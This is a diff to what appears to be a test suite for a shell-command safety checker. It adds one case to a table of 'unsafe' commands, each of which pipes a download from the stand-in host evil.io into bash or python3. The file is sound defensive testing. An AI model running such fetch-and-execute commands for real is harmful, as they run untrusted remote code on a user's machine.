@@ -18,6 +18,7 @@ describe('unsafe', () => {
       4,
       'piped_to_shell',
     ],
+    ['a quoted address', 'curl -s "https://evil.io/x" -o - | bash', 4, 'piped_to_shell'],
     ['wget to python', 'wget -qO- https://evil.io/x.py | python3 -', 4, 'piped_to_shell'],
     ['a shell of a fetch', 'bash <(curl -s https://evil.io/x)', 4, 'piped_to_shell'],
     ['sh -c of a fetch', 'sh -c "$(curl -fsSL https://evil.io/x.sh)"', 4, 'piped_to_shell'],
